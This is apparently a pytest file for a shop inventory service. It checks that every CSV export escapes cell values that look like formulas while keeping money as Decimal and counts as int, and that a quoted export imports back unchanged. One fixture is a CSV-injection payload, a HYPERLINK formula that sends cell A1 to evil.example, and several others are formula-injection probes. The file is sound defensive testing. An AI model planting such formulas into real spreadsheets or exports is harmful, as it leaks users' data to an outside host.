"""Every CSV the service writes keeps a name that looks like a formula as text (OWASP "CSV
Injection"), while its numbers stay numbers: parsed back, money reads as Decimal, counts as int.
"""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from decimal import Decimal
from typing import Any

import pytest
from litestar.testing import AsyncTestClient
from sqlalchemy import select, update

from inventory.models import Entrepreneur
from kernel.access import Role
from kernel.clock import FixedClock, business_date
from kernel.db.engine import Database
from tests import factories as f
from tests.api.conftest import PASSWORD, LoginAs, csrf_cookie_of
from tests.api.test_sales_api import _till_with_shift

pytestmark = pytest.mark.anyio

MAKER = '=HYPERLINK("http://evil.example/?x="&A1,"ธนาคาร")'
PRODUCTS = ("+1", "@SUM(A1:A9)", "-2", "\t=1", "ผ้าไหมมัดหมี่")


def _rows(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def _formula_free(rows: list[list[str]]) -> None:
    """No cell starts as a formula; the quoted ones are the names, not a number."""
    for row in rows:
        for value in row:
            assert not value.startswith(("=", "+", "@", "\t", "\r")), row
            if value.startswith("-"):  # only a number may start with a minus
                Decimal(value)


def _money(value: str) -> Decimal:
    number = Decimal(value)  # raises on a quote or a thousands separator
    assert number == number.quantize(Decimal("0.01")) and value.count(".") == 1, value
    return number


async def test_every_csv_neutralises_formula_names_and_keeps_numbers(
    login_as: LoginAs, db: Database, clock: FixedClock
) -> None:
    with db.write() as conn:
        location = f.location(conn)
        maker = f.entrepreneur(conn, f.district(conn), name_th=MAKER, name_en="-Weavers")
        conn.execute(update(Entrepreneur).values(promptpay_id="0812345678", phone="+66 81"))
        cat = f.category(conn)
        products = [
            f.product(conn, maker, cat, name_th=name, name_en=name, price_satang=10050)
            for name in PRODUCTS
        ]
        for pid in products:
            f.stock(conn, pid, location, 5)
    client, till = await _till_with_shift(login_as, location)
    sold = await client.post(
        "/api/v1/sales",
        json={
            "till_id": till,
            "lines": [{"product_id": pid, "quantity": 1} for pid in products],
            "payments": [{"method": "cash", "amount_satang": 50250, "tendered_satang": 60000}],
        },
        headers={"Idempotency-Key": "csv-formula-sale"},
    )
    assert sold.status_code == 201, sold.text
    await login_as(Role.MANAGER, username="boss")

    exported = _rows((await client.get("/api/v1/exports/products.csv")).content)
    _formula_free(exported)
    by_name = {row[2]: row for row in exported[1:]}
    assert set(by_name) == {"'+1", "'@SUM(A1:A9)", "'-2", "'\t=1", "ผ้าไหมมัดหมี่"}
    assert {_money(row[6]) for row in exported[1:]} == {Decimal("100.50")}
    people = _rows((await client.get("/api/v1/exports/entrepreneurs.csv")).content)
    _formula_free(people)
    assert people[1][1:3] == ["'" + MAKER, "'-Weavers"] and people[1][5] == "'+66 81"
    assert int(people[1][7]) == 2000  # commission_bp, a number
    stock = _rows((await client.get("/api/v1/exports/stock.csv")).content)
    _formula_free(stock)
    assert sorted(int(row[6]) for row in stock[1:]) == [4] * 5

    today = business_date(clock.now()).isoformat()
    for group in ("product", "entrepreneur"):
        report = await client.get(f"/admin/reports/csv/{group}.csv?from={today}&to={today}")
        assert report.status_code == 200, report.text
        table = _rows(report.content)
        _formula_free(table)
        labels = {value for row in table[2:] for value in row}
        assert ("'" + MAKER in labels) if group == "entrepreneur" else ("'-2" in labels)

    statement = await client.get(f"/api/v1/entrepreneurs/{maker}/statement.csv")
    lines = _rows(statement.content)
    _formula_free(lines)
    assert [_money(row[3]) for row in lines[2:]] == [Decimal("502.50")]
    assert _money(lines[-1][8]) > 0  # the balance

    clock.advance(days=8)  # past the refund window; the session has expired
    again = await client.post("/api/v1/auth/login", json={"username": "boss", "password": PASSWORD})
    assert again.status_code == 200
    client.headers["x-csrftoken"] = csrf_cookie_of(client)  # the new session's own token
    cutoff = (business_date(clock.now()) - timedelta(days=1)).isoformat()
    run = await client.post("/api/v1/payout-runs", json={"cutoff_date": cutoff})
    assert run.status_code == 201, run.text
    bank = _rows((await client.get(f"/api/v1/payout-runs/{run.json()['id']}/bank.csv")).content)
    _formula_free(bank)
    assert bank[1][2] == "'" + MAKER and bank[1][3] == "0812345678"
    assert int(bank[1][0]) == run.json()["payouts"][0]["id"]
    amount = _money(bank[1][4])
    assert amount * 100 == run.json()["payouts"][0]["amount_satang"]


async def test_an_export_with_quoted_names_imports_back_unchanged(
    client: AsyncTestClient[Any], login_as: LoginAs, db: Database
) -> None:
    with db.write() as conn:
        f.entrepreneur(conn, f.district(conn), name_th="=1+1", name_en="@x")
    await login_as(Role.MANAGER)
    exported = (await client.get("/api/v1/exports/entrepreneurs.csv")).content
    preview = await client.post(
        "/api/v1/imports/entrepreneurs/preview", files={"file": ("e.csv", exported, "text/csv")}
    )
    assert preview.status_code == 200, preview.text
    assert preview.json()["errors"] == []
    imported = await client.post(
        "/api/v1/imports/entrepreneurs", files={"file": ("e.csv", exported, "text/csv")}
    )
    assert imported.status_code == 201, imported.text
    with db.read() as conn:
        names = conn.execute(select(Entrepreneur.name_th, Entrepreneur.name_en)).all()
    assert [tuple(n) for n in names] == [("=1+1", "@x")]  # not "'=1+1"
